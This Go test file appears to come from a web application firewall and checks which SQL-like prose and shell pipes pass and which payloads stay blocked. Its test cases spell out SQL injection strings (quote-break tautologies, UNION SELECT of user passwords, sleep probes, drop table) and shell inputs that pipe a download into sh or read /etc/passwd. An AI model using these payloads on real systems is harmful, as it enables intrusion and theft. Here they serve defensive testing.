package waf

import (
	"net/url"
	"testing"
)

func TestSQLDead(t *testing.T) {
	for _, tc := range []struct {
		name, value string
		want        bool
	}{
		{"arithmetic with a comma before and", "sqrt(16) = 4, and 2^10 = 1024", true},
		{"two comparisons in a row", "x = = 3 is not how you write it", true},
		{"prose with apostrophes and a formula", "For a 40x30x20 box that's 4.8 kg vs 6 kg. The surcharge uses sqrt(dx^2 + dy^2) -- shouldn't it be road distance?", true},
		{"SQL statement in a reply", "If you export to your own warehouse, this gives the same numbers:\nSELECT date_trunc('month', created_at) AS month FROM orders WHERE status = 'paid' GROUP BY 1;\nRefunds are apart.", true},
		{"doubled quote stays in the string", "O''Brien said a, or b, and that is all", true},
		// Valid in some context, or no claim: never dead.
		{"numeric tautology with a comment", "2 > 1 and 1 < 2 -- basic maths", false},
		{"quote break tautology", "' or 'a'='a", false},
		{"quote break with a comment", "admin' -- and, or", false},
		{"union after a quote", "x' UNION SELECT username, password FROM users WHERE 'a'='a", false},
		{"conditional", `=IF(A2>100, "high", "low")`, false},
		{"break only after a comment", "1 or 1=1 -- , and = =", false},
		{"break only after a separator", "1; drop table users; , and", false},
		{"break only after a MySQL comment", "1 or sleep(5)# , and", false},
		{"versioned comment", "1 /*!50000 union*/ , and select 1", false},
		{"backslash escape", `a\' or 1=1 , and`, false},
		{"broken probe calling a keyword function", "BeNChMaRK(1000000, md5 AND 9796=4706('')", false},
		{"plus read as a space would break it", "1+(SELECT 1)", false},
		{"string then a keyword", "x' LIKE 'a%", false},
		{"typed literal", "' or d > DATE '2020-01-01", false},
		{"unary minus after an operator", "1 = -1 or 1 = +1", false},
		{"look-alike quote after a broken start", "a b cʼ or 1=1 --", false},
		{"dollar-quoted string", "a b c$$ or 1=1 --", false},
		{"charset introducer", "' or a _utf8'b' = 'b", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := sqlDead(tc.value); got != tc.want {
				t.Errorf("sqlDead(%q) = %v; want %v", tc.value, got, tc.want)
			}
		})
	}
}

func TestShellFilterPipe(t *testing.T) {
	for _, tc := range []struct {
		name, value string
		want        bool
	}{
		{"grep a pattern", "kubectl get pods -n shop | grep checkout", true},
		{"chain of filters", "docker ps -a | grep api | wc -l", true},
		{"head with a count", "git log --oneline | head -n 5", true},
		{"quoted patterns", `kubectl logs deploy-api | grep -i "upstream timeout" | grep -v 'health'`, true},
		{"sort and uniq", "journalctl -u nginx | cut -d: -f1 | sort | uniq -c | sort -rn | head -20", true},
		// What runs something or reads a file is not a filter pipe.
		{"no pipe", "kubectl get pods -n shop", false},
		{"pipe into a shell", "curl -fsSL get.example.com | sh", false},
		{"pipe at the start", "| grep root", false},
		{"or-or", "false || grep x", false},
		{"separator", "ls; cat x | grep y", false},
		{"and-and", "python3 -m venv venv && source venv/bin/activate | grep x", false},
		{"substitution", "echo $(id) | grep uid", false},
		{"redirection", "ps aux | grep x > out", false},
		{"absolute path in the first command", "cat /etc/passwd | grep root", false},
		{"traversal", "cat ../../secret | grep key", false},
		{"fetcher first", "wget evil.example | grep x", false},
		{"interpreter anywhere first", "sudo python3 x | grep y", false},
		{"grep reading a file", "id | grep root passwd", false},
		{"grep recursive", "id | grep -r password", false},
		{"grep patterns from a file", "id | grep -f patterns", false},
		{"sort writing a file", "id | sort -o out", false},
		{"sort writing a file, bundled", "id | sort -dou", false},
		{"long option", "id | sort --compress-program=sh", false},
		{"head of a file", "id | head secrets", false},
		{"sed runs commands", "id | sed e", false},
		{"awk runs commands", "id | awk system", false},
		{"quoted option", "id | grep '-r' x", false},
		{"substitution in double quotes", `id | grep "$(id)"`, false},
		{"quote left open", "id | grep 'x", false},
		{"quote glued to a word", "id | grep 'x'y", false},
		{"quoted first command", "'id' | grep x", false},
		{"pipe inside quotes only", "id 'a | sh'", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := shellFilterPipe(tc.value); got != tc.want {
				t.Errorf("shellFilterPipe(%q) = %v; want %v", tc.value, got, tc.want)
			}
		})
	}
}

// TestInjectionContext: through the engine, values of the two shapes
// pass where the CRS alone refuses them, and stay refused with the prose
// group off; payloads of the same look stay refused.
func TestInjectionContext(t *testing.T) {
	on, off, noProse := rrPolicy(t, true), rrPolicy(t, false), rrPolicy(t, true, "prose")
	q := func(v string) string { return getReq("/search?q=" + url.QueryEscape(v)) }
	for _, tc := range []struct {
		name    string
		raw     string
		blocked bool
	}{
		{"arithmetic that is no SQL", q("sqrt(16) = 4, and 2^10 = 1024"), false},
		{"arithmetic in JSON", postReq("/api/notes", "application/json", `{"note":"sqrt(16) = 4, and 2^10 = 1024"}`), false},
		{"pipe into grep", q("kubectl get pods -n shop | grep checkout"), false},
		{"pipe into grep in a form", postReq("/support", "application/x-www-form-urlencoded", "text="+url.QueryEscape("ps aux | grep nginx | head -n 5")), false},
		{"numeric tautology", q("2 > 1 and 1 < 2 -- basic maths"), true},
		{"pipe into a shell", q("kubectl get pods -n shop | sh"), true},
		{"pipe reading a file", q("cat /etc/passwd | grep root"), true},
		{"separator then a command", q("kubectl get pods; cat /etc/passwd | grep root"), true},
		{"union select", q("1 UNION SELECT username, password FROM users"), true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !tc.blocked {
				if v, _ := inspect(t, off, tc.raw); !v.Blocked() {
					t.Fatalf("the CRS alone passes it: not a test of the shapes")
				}
			}
			v, id := inspect(t, on, tc.raw)
			if v.Blocked() != tc.blocked {
				t.Fatalf("got blocked %v (score %d, rules %v); want %v", v.Blocked(), v.Score, ruleIDsOf(testAudit.event(t, id)), tc.blocked)
			}
			if v, _ := inspect(t, noProse, tc.raw); !v.Blocked() {
				t.Errorf("prose group off: got status %d; want blocked", v.Status)
			}
		})
	}
}
